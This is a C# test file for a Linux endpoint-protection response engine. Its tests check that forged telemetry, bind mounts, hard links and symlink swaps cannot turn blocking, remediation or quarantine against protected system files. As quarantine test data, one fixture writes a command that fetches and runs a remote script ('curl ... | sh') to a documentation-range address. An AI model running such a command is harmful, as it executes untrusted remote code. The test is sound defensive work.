using System;
using System.IO;
using System.Linq;
using System.Text;
using BehaviorBlocking.Engine;
using BehaviorBlocking.Policy;
using BehaviorBlocking.Response;
using BehaviorBlocking.Store;
using BehaviorBlocking.Tests.TestSupport;

namespace BehaviorBlocking.Tests.Response
{
    /// <summary>
    /// The response path against input an attacker writes (telemetry: hashes, artifact locations) and against
    /// a local user who plants links and names: each test is one threat of docs/response.md, "Threats considered".
    /// </summary>
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public sealed class ResponseThreatTests : IDisposable
    {
        private readonly TempDirectory _temp = new TempDirectory();

        public void Dispose() => _temp.Dispose();

        [LinuxRootFact]
        public void BlockHash_TelemetryClaimsTheHashOfAProtectedExecutable_RefusedAndNoIndicatorWritten()
        {
            // A protected tool (as /bin/sh is) and a payload whose telemetry claims the tool's SHA-256.
            string tool = _temp.Combine("protected-tool");
            File.WriteAllText(tool, "#!/bin/sh\necho the real tool\n");
            string payload = _temp.Combine("payload");
            File.WriteAllText(payload, "the attacker's program");
            string claimed = ResponseExecutor.Sha256Of(tool);
            var indicators = new MemoryIndicators();
            var components = new ResponseComponents { GuardRails = new GuardRails(new[] { tool }, Array.Empty<string>()), Indicators = indicators };

            ResponseStep step = new ResponseExecutor(components, ResponseStep.PolicyActor).BlockHash(claimed, payload, IndicatorSource.Detection, Guid.NewGuid(), "forged", null);

            Assert.Equal(StepOutcome.Refused, step.Outcome);
            Assert.Contains(tool, step.Detail, StringComparison.Ordinal);
            Assert.Empty(indicators.Added);

            // The payload's own hash is still blocked.
            ResponseStep own = new ResponseExecutor(components, ResponseStep.PolicyActor).BlockHash(null, payload, IndicatorSource.Detection, Guid.NewGuid(), "real", null);
            Assert.Equal(StepOutcome.Done, own.Outcome);
            Assert.Equal(ResponseExecutor.Sha256Of(payload), Assert.Single(indicators.Added).Value);
        }

        [LinuxRootFact]
        public void RefuseHash_TheRealShell_Refused()
        {
            string shell = new FileInfo("/bin/sh").ResolveLinkTarget(returnFinalTarget: true)?.FullName ?? "/bin/sh";
            string? reason = new GuardRails().RefuseHash(ResponseExecutor.Sha256Of(shell).ToLowerInvariant());

            Assert.NotNull(reason);
            Assert.Null(new GuardRails().RefuseHash(new string('0', 64)));
        }

        [LinuxRootFact]
        public void RefuseFile_ProtectedFolderReachedThroughABindMount_Refused()
        {
            string guarded = _temp.Combine("guarded");
            string mountPoint = _temp.Combine("elsewhere");
            Directory.CreateDirectory(guarded);
            Directory.CreateDirectory(mountPoint);
            File.WriteAllText(Path.Combine(guarded, "tool"), "x");
            var rails = new GuardRails(Array.Empty<string>(), new[] { guarded });
            Assert.Null(rails.RefuseFile(Path.Combine(mountPoint, "tool")));
            Assert.Equal(0, Posix.Run("mount", "--bind", guarded, mountPoint));
            try
            {
                string? reason = rails.RefuseFile(Path.Combine(mountPoint, "tool"));

                Assert.NotNull(reason);
                Assert.Contains(guarded, reason, StringComparison.Ordinal);
            }
            finally
            {
                Posix.Run("umount", mountPoint);
            }
        }

        [LinuxRootFact]
        public void RefuseFile_HardLinkToACriticalFile_Refused()
        {
            string link = _temp.Combine("passwd-copy");
            if (Posix.Link("/etc/passwd", link) != 0)
            {
                return; // another file system: no hard link can be made, nothing to judge
            }

            string? reason = new GuardRails().RefuseFile(link);

            Assert.NotNull(reason);
            Assert.Contains("/etc/passwd", reason, StringComparison.Ordinal);
        }

        [LinuxRootFact]
        public void Remediate_ArtifactKindDoesNotMatchItsLocation_RefusedAndFileUntouched()
        {
            string root = _temp.Combine("root");
            string config = Path.Combine(root, "etc", "ssh", "sshd_config");
            Directory.CreateDirectory(Path.GetDirectoryName(config)!);
            File.WriteAllText(config, "PermitRootLogin no\nPasswordAuthentication no\n");
            string hosts = Path.Combine(root, "etc", "hosts");
            File.WriteAllText(hosts, "127.0.0.1 localhost\n");
            using RemediationStore store = RemediationStore.Open(_temp.Combine("home", ProductHome.StoreFileName));
            var remediator = new LinuxRemediator(store, null, root);

            // Forged evidence: a "cron line" of sshd_config, a "unit" at /etc/hosts, a "shell rc line" of /etc/ssh/sshd_config.
            ResponseStep line = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/ssh/sshd_config", "PermitRootLogin no"), null, whatIf: false);
            ResponseStep unit = remediator.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/hosts"), null, whatIf: false);
            ResponseStep rc = remediator.Remediate(new PersistenceArtifact(PersistenceKind.ShellRcLine, "/etc/ssh/sshd_config", "PasswordAuthentication no"), null, whatIf: false);

            Assert.Equal((StepOutcome.Refused, StepOutcome.Refused, StepOutcome.Refused), (line.Outcome, unit.Outcome, rc.Outcome));
            Assert.Equal("PermitRootLogin no\nPasswordAuthentication no\n", File.ReadAllText(config));
            Assert.Equal("127.0.0.1 localhost\n", File.ReadAllText(hosts));
            Assert.Empty(store.List());
        }

        [LinuxRootFact]
        public void Restore_FolderSwappedForALinkAfterQuarantine_RefusedAndNothingWrittenThere()
        {
            string folder = _temp.Combine("drop");
            string elsewhere = _temp.Combine("profile.d");
            Directory.CreateDirectory(folder);
            Directory.CreateDirectory(elsewhere);
            string file = Path.Combine(folder, "x.sh");
            File.WriteAllText(file, "curl -s http://203.0.113.5/p | sh\n");
            var vault = new QuarantineVault(_temp.Combine("home", "quarantine"), null);
            QuarantineEntry entry = vault.Add(file, null, "test");

            // The user who owned the folder replaces it with a link to where the file would do harm.
            Directory.Delete(folder);
            Directory.CreateSymbolicLink(folder, elsewhere);

            var ex = Assert.Throws<BehaviorBlockingException>(() => vault.Restore(entry.Id));

            Assert.Equal(ErrorIds.QuarantineRefused, ex.ErrorId);
            Assert.Empty(Directory.GetFileSystemEntries(elsewhere));
            Assert.Equal(QuarantineState.Held, vault.Get(entry.Id)!.State);
        }

        [LinuxRootFact]
        public void Quarantine_FileWithASecondHardLink_RefusedAndBothNamesLeft()
        {
            // A hard link to a protected file is that file under another name; the guard rails judge names.
            string target = _temp.Combine("shadow-like");
            File.WriteAllText(target, "root:$6$secret:19000:0:99999:7:::\n");
            string link = _temp.Combine("innocent-name");
            Assert.Equal(0, Posix.Link(target, link));
            var vault = new QuarantineVault(_temp.Combine("home", "quarantine"), null);

            var ex = Assert.Throws<BehaviorBlockingException>(() => vault.Add(link, null, "test"));

            Assert.Equal(ErrorIds.QuarantineRefused, ex.ErrorId);
            Assert.Contains("2 hard links", ex.Message, StringComparison.Ordinal);
            Assert.DoesNotContain("secret", ex.Message, StringComparison.Ordinal);
            Assert.True(File.Exists(link) && File.Exists(target));
            Assert.Empty(vault.List());
        }
    }
}
